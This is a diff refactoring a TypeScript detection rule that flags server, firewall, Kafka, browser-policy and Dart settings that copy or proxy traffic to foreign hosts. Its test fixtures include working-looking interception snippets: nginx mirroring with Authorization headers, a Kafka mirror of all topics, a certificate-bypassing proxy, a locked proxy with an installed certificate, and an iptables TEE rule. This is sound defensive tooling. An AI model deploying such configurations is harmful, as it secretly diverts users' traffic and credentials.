@@ -1,31 +1,43 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit, placeOf } from '../../rule.ts'
-import { regex } from '../../patterns/verbose.ts'
 import { candidates } from '../../signals/candidates.ts'
 import { isForeignFor, isLocal, isStandIn } from '../../signals/hosts.ts'
-import { addressesIn, snippets } from '../../signals/snippets.ts'
+import { snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
 
-/** A server passes on what it is asked, or a copy of it. */
-const COPIED = worded(
-  regex.g`
-    \bproxy_pass\s{1,4}https?:\/\/[^\s;]{4,120}|
-    -j tee --gateway \S{4,60}|
-    \btarget\.cluster\.bootstrap\.servers["']?\s?[:=]\s?["']?[\w.-]{4,80}|
-    "certificates"\s?:[^]{0,160}?"httpproxy"\s?:\s?"[\w.-]{4,80}|
-    \bfindproxy\b[^\n]{0,40}?\bproxy [\w.-]{4,80}
-  `,
-)
+interface Way {
+  /** Where traffic goes; the host or the address is its first group. */
+  readonly sends: RegExp
+  /** What stands in the same settings when it is more than the way to one's own program. */
+  readonly beside?: RegExp
+}
 
-/** It is a copy. */
-const MIRROR =
-  /\bmirror\s{1,4}\/|\bmirror_request_body\b|-j tee\b|\bmirrorsourceconnector\b|\bbadcertificatecallback\b|"certificates"\s?:/
+const way = (sends: RegExp, beside?: RegExp): Way => ({
+  sends: worded(sends),
+  ...(beside && { beside }),
+})
+
+/** Ways to hand on, or to copy, what passes through a server, a firewall, a cluster, a browser or an app. */
+const WAYS: readonly Way[] = [
+  way(
+    /\bproxy_pass\s{1,4}(https?:\/\/[^\s;$]{4,120})/g,
+    /\bmirror\s{1,4}\/|\bmirror_request_body\b/,
+  ),
+  way(
+    /\btarget\.cluster\.bootstrap\.servers["']?\s?[:=]\s?["']?([\w.-]{4,80})/g,
+    /\bmirrorsourceconnector\b/,
+  ),
+  way(/"certificates"\s?:[^]{0,160}?"httpproxy"\s?:\s?"([\w.-]{4,80})/g),
+  way(/\bfindproxy\b[^\n]{0,40}?\bproxy ([\w.-]{4,80})/g, /\bbadcertificatecallback\b/),
+]
+
+/** A firewall names a machine by its number, which says nothing of whose it is: those of a net of one's own are left out. */
+const TEE = worded(
+  /-j tee --gateway (?!10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\$)\S{4,60}/g,
+)
 
 /** What people are signed in with goes along. */
 const SIGN_IN = /\$http_(?:authorization|cookie)\b/
-
-/** Machines of a net of one's own. */
-const NEAR = /--gateway (?:10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\$)/
 
 export default defineRule({
   id: 'tapped-traffic',
@@ -46,6 +58,7 @@ export default defineRule({
       '```nginx\nmirror /copy;\nlocation /copy {\n  proxy_pass https://in.harbour-lens.net;\n  proxy_set_header Authorization $http_authorization;\n}\n```\n',
       '```json\n{ "connector.class": "org.apache.kafka.connect.mirror.MirrorSourceConnector", "target.cluster.bootstrap.servers": "b1.harbour-lens.net:9092", "topics": ".*" }\n```\n',
       "```dart\nreturn super.createHttpClient(c)\n  ..findProxy = ((_) => 'PROXY in.harbour-lens.net:8443')\n  ..badCertificateCallback = (cert, host, port) => true;\n```\n",
+      '```json\n{ "policies": { "Certificates": { "Install": ["/tmp/lens.pem"] }, "Proxy": { "HTTPProxy": "in.harbour-lens.net:8080", "Locked": true } } }\n```\n',
       '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
     ],
     quiet: [
@@ -56,28 +69,32 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     const { text } = document.reading
-    for (const { start, end } of candidates(document, document.observe(snippets), COPIED)) {
-      const snippet = text.slice(start, end)
-      if (!MIRROR.test(snippet)) continue
-      for (const found of snippet.matchAll(COPIED)) {
-        if (NEAR.test(found[0])) continue
-        // A name without a dot is a pool of servers of the same settings.
-        const named =
-          /(?:servers["']?\s?[:=]\s?["']?|\bproxy |"httpproxy"\s?:\s?")([\w.-]{4,80})/.exec(
-            found[0],
-          )?.[1]
-        const written = found[0].split('$')[0]!
-        const strangers = (named ? [`https://${named}`] : addressesIn(written)).filter(
-          (one) =>
-            /\.[a-z]/.test(one) && !isLocal(one) && !isStandIn(one) && isForeignFor(document, one),
-        )
-        if (!found[0].startsWith('-j') && strangers.length === 0) continue
-        yield {
-          ...placeOf(start, found),
-          firm: true,
-          ...(SIGN_IN.test(snippet) && { severity: 'crit' as const }),
-        }
+    const all = document.observe(snippets)
+    for (const { sends, beside } of WAYS)
+      for (const { start, end } of candidates(document, all, sends)) {
+        const snippet = text.slice(start, end)
+        if (beside && !beside.test(snippet)) continue
+        for (const found of snippet.matchAll(sends))
+          if (isStrangers(document, found[1]!))
+            yield {
+              ...placeOf(start, found),
+              firm: true,
+              ...(SIGN_IN.test(snippet) && { severity: 'crit' as const }),
+            }
       }
-    }
+    for (const { start, end } of candidates(document, all, TEE))
+      for (const found of text.slice(start, end).matchAll(TEE))
+        yield { ...placeOf(start, found), firm: true }
   },
 })
+
+/** A name without a dot is a pool of servers of the same settings. */
+function isStrangers(document: Document, target: string): boolean {
+  const address = target.includes('://') ? target : `https://${target}`
+  return (
+    /\.[a-z]/.test(address) &&
+    !isLocal(address) &&
+    !isStandIn(address) &&
+    isForeignFor(document, address)
+  )
+}
